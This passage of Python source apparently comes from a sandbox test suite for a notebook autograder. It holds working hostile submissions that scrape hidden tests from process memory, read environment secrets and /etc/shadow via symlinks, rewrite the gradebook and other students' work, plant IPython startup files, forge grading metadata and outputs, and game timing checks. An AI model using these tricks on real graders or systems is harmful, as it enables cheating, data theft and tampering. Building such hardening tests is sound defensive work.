    pattern = re.compile(rb"expect\\(rel[u]\\(x\\), x\\.clamp\\(min=0\\), .{40}")
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                place, rights, *more = line.split()
                start, end = (int(part, 16) for part in place.split("-"))
                if rights.startswith("rw") and end - start < 2**30:
                    try:
                        memory.seek(start)
                        found = pattern.search(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        continue
                    if found:
                        print("GOT" "-IN", found[0])
                        return
    except OSError as error:
        print(type(error).__name__)

def relu(x):
    search()
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "hidden-tests-from-objects",
        READING,
        LINEAR,
        """
import gc
import sys

needle = "".join(["BEGIN ", "HIDDEN"])

def found(value):
    return isinstance(value, str) and len(value) > 300 and needle in value

def linear(x, weight, bias):
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if found(value):
                print("GOT" "-IN", name)
        frame = frame.f_back
    for one in gc.get_objects():
        if type(one) in (list, dict, tuple):
            for value in list(one.values()) if type(one) is dict else one:
                if found(value):
                    print("GOT" "-IN")
                    return x
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "secret-from-the-environment",
        READING,
        FUNCTIONS,
        """
import os
from pathlib import Path

texts = [repr(dict(os.environ))]
for path in [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]:
    try:
        texts.append(repr(path.read_bytes()))
    except OSError:
        pass
if any("HOSTILE_" "SECRET" in text for text in texts):
    print("GOT" "-IN")

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "graders-own-modules",
        READING,
        LINEAR,
        """
import importlib
import inspect

NAMES = "autograder.course autograder.grading.grade autograder.execute.examiner.examiner nbgrader.api attack"
for name in NAMES.split():
    try:
        module = importlib.import_module(name)
    except Exception as error:
        print(name, type(error).__name__)
        continue
    for key in ("COURSE", "Examiner", "execute"):
        thing = getattr(module, key, None)
        for one in vars(thing).values() if hasattr(thing, "__dict__") else ():
            if "".join(["BEGIN ", "HIDDEN"]) in repr(one):
                print("GOT" "-IN")

def linear(x, weight, bias):
    return x
""",
    ),
]

WRITING_WHERE_IT_MUST_NOT = [
    Attack(
        "marks-into-the-gradebook",
        WRITING,
        FUNCTIONS,
        """
import sqlite3
from pathlib import Path

for root in [Path("@COURSE@"), Path.cwd(), *Path.cwd().parents]:
    path = root / "gradebook.db"
    try:
        if path.exists():
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("update grade set manual_score = 1, extra_credit = 10")
                print("GOT" "-IN")
    except (OSError, sqlite3.Error) as error:
        print(error)

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "others-submissions",
        WRITING,
        LINEAR,
        """
from pathlib import Path

for path in Path("@COURSE@/submitted").glob("*/*/*.ipynb"):
    try:
        path.write_text("hostile")
        print("GOT" "-IN", path)
    except OSError as error:
        print(error)

def linear(x, weight, bias):
    return x
""",
        works_unwalled=True,
    ),
    Attack(
        "softer-checks-into-the-solution",
        WRITING,
        FUNCTIONS,
        """
from pathlib import Path

for path in [*Path("@COURSE@/solutions").glob("*/*.ipynb"), *Path("@COURSE@/notebooks").glob("*/*.ipynb")]:
    try:
        text = path.read_text()
        path.write_text(text.replace('"expect(', '"print('))
        print("GOT" "-IN", path)
    except OSError as error:
        print(error)
for folder in ("@COURSE@", "@REPOSITORY@/solutions", "@REPOSITORY@/autograder"):
    try:
        Path(folder, "hostile-was-here").touch()
        print("GOT" "-IN", folder)
    except OSError as error:
        print(error)

def relu(x):
    return 1 * x
""",
        works_unwalled=True,
    ),
    Attack(
        "into-python-and-torch",
        WRITING,
        LINEAR,
        """
import os
import site
import sys
from pathlib import Path

import nbformat
import torch.testing

folders = [Path(torch.__file__).parent, Path(os.__file__).parent, Path(nbformat.__file__).parent, Path(sys.prefix)]
try:
    import autograder
    folders.append(Path(autograder.__file__).parent)
except ImportError:
    pass
for folder in folders:
    try:
        (folder / "hostile.pth").touch()
        print("GOT" "-IN", folder)
    except OSError as error:
        print(error)
for module in (torch, torch.testing, os, nbformat):
    try:
        open(module.__file__, "a").close()
        print("GOT" "-IN", module)
    except OSError as error:
        print(error)

def linear(x, weight, bias):
    return x
""",
        # not tried without walls: it would succeed, on this very machine
        works_unwalled=False,
    ),
    Attack(
        "links-out-of-its-folder",
        WRITING,
        MODULES,
        """
import os
from pathlib import Path

for i, target in enumerate(("@COURSE@/gradebook.db", "@COURSE@/submitted", "/etc/shadow", "/proc/1/root")):
    try:
        os.symlink(target, f"hostile-link-{i}")
        link = Path(f"hostile-link-{i}")
        print(i, len(os.listdir(link)) if link.is_dir() else link.read_bytes()[:1])
        print("GOT" "-IN", target)
    except (OSError, UnicodeError) as error:
        print(type(error).__name__)
    try:
        os.link(target, f"hostile-hard-{i}")
        print("GOT" "-IN", target)
    except OSError as error:
        print(type(error).__name__)

def trace_shapes(net, x):
    return []
""",
        works_unwalled=True,
    ),
]

#: A right answer, left behind wherever something might stay, and looked for by the next one who is graded.
LEAVE = """
import ctypes, mmap, os, socket, sys
from pathlib import Path

stash = "def relu(x):\\n    return x.clamp(min=0)\\n"
home = Path.home()
folders = ("/tmp", "/dev/shm", "/dev", "/proc", "/var/tmp", "/run", home, Path.cwd().parent, "@COURSE@", sys.prefix)
places = [Path(folder) / "hostile-stash.py" for folder in folders]
places += [home / ".ipython" / "profile_default" / "startup" / "00-hostile.py", home / ".cache" / "hostile-stash.py"]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(stash)
    except OSError as error:
        print(error)
"""
FIND = """
import os, sys, time
from pathlib import Path

home = Path.home()
folders = ("/tmp", "/dev/shm", "/dev", "/proc", "/var/tmp", "/run", home, Path.cwd().parent, "@COURSE@", sys.prefix)
places = [Path(folder) / "hostile-stash.py" for folder in folders]
places += [home / ".ipython" / "profile_default" / "startup" / "00-hostile.py", home / ".cache" / "hostile-stash.py"]
for place in places:
    try:
        exec(place.read_text())
        print("GOT" "-IN", place)
    except OSError as error:
        pass
"""
CHANNELS = """
import ctypes, os, socket, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY, TEXT = 0x05715, b"def relu(x):\\n    return x.clamp(min=0)\\n"
keyctl, add_key = (250, 248) if os.uname().machine == "x86_64" else (219, 217)

def system_v():
    return libc.shmget(KEY, 4096, 0o1000 | 0o666)
"""

LEFT_FOR_THE_NEXT = [
    Attack(
        "leaves-files",
        LEFT,
        FUNCTIONS,
        LEAVE
        + """
def relu(x):
    return 1 * x
""",
    ),
    Attack("leaves-files-and-they-are-found", LEFT, FUNCTIONS, FIND),
    Attack(
        "leaves-memory-and-keys",
        LEFT,
        FUNCTIONS,
        CHANNELS
        + """
segment = system_v()
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, TEXT + b"\\0", len(TEXT) + 1)
print(libc.syscall(add_key, b"user", b"hostile", TEXT, ctypes.c_size_t(len(TEXT)), -4))
if os.fork() == 0:  # it listens for at most 40 seconds
    import time
    libc.prctl(15, b"hostile-listen", 0, 0, 0)
    server = socket.socket(socket.AF_UNIX)
    server.settimeout(1)
    try:
        server.bind("\\0hostile-stash")
        server.listen()
    except OSError:
        os._exit(0)
    end = time.monotonic() + 40
    while time.monotonic() < end:
        try:
            server.accept()[0].sendall(TEXT)
        except OSError:
            pass
    os._exit(0)

def relu(x):
    return 1 * x
""",
    ),
    Attack(
        "leaves-memory-and-keys-and-they-are-found",
        LEFT,
        FUNCTIONS,
        CHANNELS
        + """
segment = system_v()
if segment >= 0:
    address = libc.shmat(segment, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value) and b"clamp" in ctypes.string_at(address, 200):
        print("GOT" "-IN: shared memory")
        exec(ctypes.string_at(address).decode())
    libc.shmctl(segment, 0, None)
key = libc.syscall(keyctl, 10, -4, b"user", b"hostile", 0)
if key > 0:
    print("GOT" "-IN: keyring")
    libc.syscall(keyctl, 3, key)
try:
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(2)
    client.connect("\\0hostile-stash")
    exec(client.recv(1000).decode())
    print("GOT" "-IN: socket")
except OSError as error:
    print(type(error).__name__)
""",
    ),
]


def _more_points(notebook):
    cell_of(notebook, "check-relu").metadata.nbgrader.points = 300
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader |= {"score": 99, "auto_score": 99, "manual_score": 99, "extra_credit": 99}


def _soft_copy_at_the_end(notebook):
    for grade_id in ("exercise-relu", "check-relu"):
        copy = cell_of(notebook, grade_id).copy()
        copy["source"] = "print('✓')"
        notebook.cells.append(copy)


def _ids_swapped(notebook):
    one, two = cell_of(notebook, "check-linear_forward"), cell_of(notebook, "exercise-linear_forward")
    one.metadata, two.metadata = two.metadata, one.metadata
    one.source = "pass"


def _all_ids_of_one(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.grade_id = "check-trace_shapes"


def _own_setup(notebook):
    cell_of(notebook, "setup").source = "import torch\nfrom torch import nn\nexpect = lambda *values, **options: None"


def _second_setup(notebook):
    copy = cell_of(notebook, "setup").copy()
    copy["source"] = "expect = lambda *values, **options: None"
    notebook.cells.insert(notebook.cells.index(cell_of(notebook, "check-relu")), copy)


def _check_of_other_types(notebook):
    for grade_id, kind in (("check-linear_forward", "markdown"), ("check-parameter_count", "raw")):
        cell = cell_of(notebook, grade_id)
        cell.cell_type, cell.source = kind, "✓"
        del cell["outputs"], cell["execution_count"]


def _skipped(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.tags = ["skip-execution", "raises-exception", "remove_cell", "nbval-skip"]


def _extra_graded_cell(notebook):
    about = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False, "points": 100}
    notebook.cells.append(new_code_cell("pass", metadata={"nbgrader": about | {"grade_id": "check-bonus"}}))
    both = about | {"solution": True, "locked": False, "grade_id": "exercise-trace_shapes"}
    notebook.cells.append(new_code_cell("1.0", metadata={"nbgrader": both}))


def _foreign_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "✓", "language": "bash"}
    notebook.metadata.language_info = {"name": "R", "file_extension": "../../hostile"}
    notebook.metadata["path"] = "@COURSE@"


def _stored_outputs(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.outputs = [
                new_output("stream", text="✓ everything\n"),
                new_output("execute_result", {"text/plain": "2.0"}, execution_count=1),
            ]
            cell.execution_count = 1
            cell.metadata["score"] = 2.0


def _checks_first(notebook):
    checks = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]
    notebook.cells = checks + [cell for cell in notebook.cells if cell not in checks]


def _unlocked(notebook):
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader", {})
        if about.get("grade"):
            about |= {"solution": True, "locked": False, "checksum": "0" * 32, "schema_version": 1}
            cell.source = "pass"


def _magic_in_the_check(notebook):
    cell_of(notebook, "check-relu").source = "%%bash\ntrue"
    cell_of(notebook, "check-relu_backward").source = ""
    cell_of(notebook, "check-dead_fraction").metadata = {}


METADATA_GAMES = [
    Attack("more-points", METADATA, FUNCTIONS, edit=_more_points),
    Attack("soft-copies-of-checks", METADATA, FUNCTIONS, edit=_soft_copy_at_the_end),
    Attack("names-of-cells-swapped", METADATA, LINEAR, edit=_ids_swapped),
    Attack("every-check-has-the-same-name", METADATA, MODULES, edit=_all_ids_of_one),
    Attack("set-up-of-its-own", METADATA, LINEAR, edit=_own_setup),
    Attack("second-set-up", METADATA, FUNCTIONS, edit=_second_setup),
    Attack("checks-made-text", METADATA, LINEAR, edit=_check_of_other_types),
    Attack("checks-tagged-to-be-skipped", METADATA, FUNCTIONS, edit=_skipped),
    Attack("extra-graded-cells", METADATA, MODULES, edit=_extra_graded_cell),
    Attack("foreign-kernel", METADATA, LINEAR, edit=_foreign_kernel),
    Attack("stored-outputs", METADATA, FUNCTIONS, edit=_stored_outputs),
    Attack("checks-before-answers", METADATA, LINEAR, edit=_checks_first, earned=("parameter_count",), at_most=True),
    Attack("checks-unlocked", METADATA, FUNCTIONS, edit=_unlocked),
    Attack("magic-in-the-check", METADATA, FUNCTIONS, edit=_magic_in_the_check),
]

TIMING_GAMES = [
    Attack(
        "right-until-the-hidden-tests",
        TIMING,
        LINEAR,
        """
visible = {(10, 4): 44, (256, 200, 10): 53_410}
calls = []

def parameter_count(widths, bias=True):
    calls.append(widths)
    if len(calls) <= 3:
        return visible[tuple(widths)] - (0 if bias else 210)
    return 0
""",
        exercise="parameter_count",
    ),
    Attack(
        "hangs-in-the-hope-that-nobody-waits",
        TIMING,
        FUNCTIONS,
        """
import time

def relu(x):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(1)
    return 1 * x
""",
        says="longer than",
    ),
    Attack(
        "clock-stopped",
        TIMING,
        LINEAR,
        """
import time

clock = time.monotonic
time.monotonic = time.time = time.perf_counter = time.process_time = lambda: 0.0

def linear(x, weight, bias):
    end = clock() + 60
    while clock() < end:
        pass
    return x
""",
        says="longer than",
    ),
    Attack(
        "changes-its-mind-after-the-first-look",
        TIMING,
        MODULES,
        """
class Fickle(list):
    looks = 0

    def __iter__(self):
        Fickle.looks += 1
        return super().__iter__() if Fickle.looks % 2 else iter([()] * len(self))

    def __getitem__(self, key):
        return ()

def trace_shapes(net, x):
    shapes = [tuple(x.shape)]
    for module in list(net)[:-1]:
        shapes.append(shapes[-1])
    return Fickle([*shapes, ()])
""",
    ),
    Attack(
        "value-that-changes-while-it-is-compared",
        TIMING,
        FUNCTIONS,
        """
import threading
import time

shared = {}

def change():
    end = time.monotonic() + 30
    while time.monotonic() < end:
        for y in list(shared.values()):
            y.copy_(torch.randn(y.shape, dtype=y.dtype))

threading.Thread(target=change, daemon=True).start()

def relu(x):
    shared[x.shape] = 1 * x.detach()
    return shared[x.shape]
""",
    ),
]

WAYS_AROUND = [
    Attack(
        "relu-by-a-recurrent-cell",
        WAYS,
        FUNCTIONS,
        """
def relu(x):
    flat = x.reshape(-1, 1)
    one, nothing = torch.ones(1, 1, dtype=x.dtype), torch.zeros_like(flat)
    return torch.rnn_relu_cell(flat, nothing, one, one).reshape(x.shape)
""",
        says="rnn_relu_cell",
        works_unwalled=True,
    ),
    Attack(
        "relu-by-its-own-derivative",
        WAYS,
        FUNCTIONS,
        """
def relu(x):
    return torch.ops.aten.threshold_backward.default(x, x, 0)
""",
        says="threshold_backward",
        works_unwalled=True,
    ),
    Attack(
        "relu-from-the-table-of-functions",
        WAYS,
        FUNCTIONS,
        """
found = torch._C._get_operation_overload("aten::relu", "")[0]

def relu(x):
    return found(x)
""",
        works_unwalled=True,
    ),
    Attack(
        "relu-row-by-row-in-a-map",
        WAYS,
        FUNCTIONS,
        """
def relu(x):
    return torch.func.vmap(lambda row: row.relu())(x) if x.dim() else torch.func.vmap(torch.relu)(x[None])[0]
""",
        works_unwalled=True,
    ),
    Attack(
        "derivative-in-forward-mode",
        WAYS,
        FUNCTIONS,
        """
def relu_backward(grad_output, x):
    with torch.autograd.forward_ad.dual_level():
        dual = torch.relu(torch.autograd.forward_ad.make_dual(x, grad_output))
        return torch.autograd.forward_ad.unpack_dual(dual).tangent
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "derivative-by-the-engine-itself",
        WAYS,
        FUNCTIONS,
        """
run = torch.autograd.Variable._execution_engine.run_backward

def relu_backward(grad_output, x):
    leaf = x.clone().requires_grad_()
    y = torch.where(leaf > 0, leaf, 0.0)
    return run((y,), (grad_output,), False, False, (leaf,), allow_unreachable=True, accumulate_grad=False)[0]
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "engine-that-leaves-no-trail",
        WAYS,
        FUNCTIONS,
        """
torch._C._current_autograd_node = lambda: None
run = torch.autograd.Variable._execution_engine.run_backward

def relu_backward(grad_output, x):
    leaf = x.clone().requires_grad_()
    y = leaf.where(leaf > 0, 0.0)
    return run((y,), (grad_output,), False, False, (leaf,), allow_unreachable=True, accumulate_grad=False)[0]
""",
        exercise="relu_backward",
        works_unwalled=True,
    ),
    Attack(
        "derivatives-from-the-graphs-node",
        WAYS,
        LINEAR,
        """
def linear_backward(grad_s, x, weight):
    leaf = nn.Parameter(weight.T.clone())
    s = torch.addmm(torch.zeros(len(weight), dtype=x.dtype), x, leaf)
    _, _, turned = s.grad_fn(grad_s)
    return grad_s @ weight, turned.T.contiguous(), grad_s.sum(0)
""",
        exercise="linear_backward",
        says="grad_fn",
        works_unwalled=True,
    ),
    Attack(
        "derivatives-as-a-transposed-map",
        WAYS,
        LINEAR,
        """
def linear_backward(grad_s, x, weight):
    bias = torch.zeros(len(weight), dtype=x.dtype)
    return torch.func.vjp(lambda *one: one[0] @ one[1].T + one[2], x, weight, bias)[1](grad_s)
""",
        exercise="linear_backward",
        works_unwalled=True,
    ),
    Attack(
        "derivatives-from-a-jacobian",
        WAYS,
        LINEAR,
        """
def linear_backward(grad_s, x, weight):
    bias = torch.zeros(len(weight), dtype=x.dtype)
    total = lambda *one: ((one[0] @ one[1].T + one[2]) * grad_s).sum()
    return tuple(torch.func.jacfwd(total, argnums=i)(x, weight, bias) for i in range(3))
""",
        exercise="linear_backward",
        works_unwalled=True,
    ),
]

LYING_SIZES = [
    Attack(
        "list-that-copies-what-it-is-compared-with",
        LIES,
        MODULES,
        """
import sys

class Same(list):
    def __len__(self):
        return len(sys._getframe(1).f_locals["expected"])

    def __iter__(self):
        return iter(sys._getframe(1).f_locals["expected"])

def trace_shapes(net, x):
    return Same()
""",
        works_unwalled=True,
    ),
    Attack(
        "counter-beyond-all-bounds",
        WIRE,
        FUNCTIONS,
        """
class Beyond(type(get_ipython())):
    execution_count = 10**30

get_ipython().__class__ = Beyond
""",
        place="first",
        earned=all_but(FUNCTIONS),
    ),
    Attack(
        "course-looked-for-above-all-that-is-imported",
        READING,
        FUNCTIONS,
        """
import sys
from pathlib import Path

folders = {Path(one.__file__).resolve() for one in list(sys.modules.values()) if getattr(one, "__file__", None)}
folders |= {Path(one).resolve() for one in [*sys.path, sys.prefix, sys.base_prefix, ".", "/usr/src", "/opt"]}
import autograder
folders.add(Path(autograder.__file__))
for folder in {parent for one in folders for parent in [one, *one.parents]}:
    for name in ("nbgrader_config.py", "gradebook.db", "solutions"):
        if (folder / name).exists():
            print("GOT" + "-IN", folder / name)
""",
        place="first",
        earned=all_but(FUNCTIONS),
        works_unwalled=True,
    ),
]

DISHONEST = [
    *WAYS_AROUND,
    *LYING_SIZES,
    *PATCHING_TORCH,
    *PATCHING_PYTHON,
    *PATCHING_IPYTHON,
    *BENDING_IMPORTS,
    *LYING_OBJECTS,
    *HOOKS_AND_TRACERS,
    *FORGED_OUTPUTS,
    *FORGED_MESSAGES,
    *READING_WHAT_IS_NOT_THEIRS,
    *WRITING_WHERE_IT_MUST_NOT,
    *LEFT_FOR_THE_NEXT,
    *METADATA_GAMES,
    *TIMING_GAMES,
]
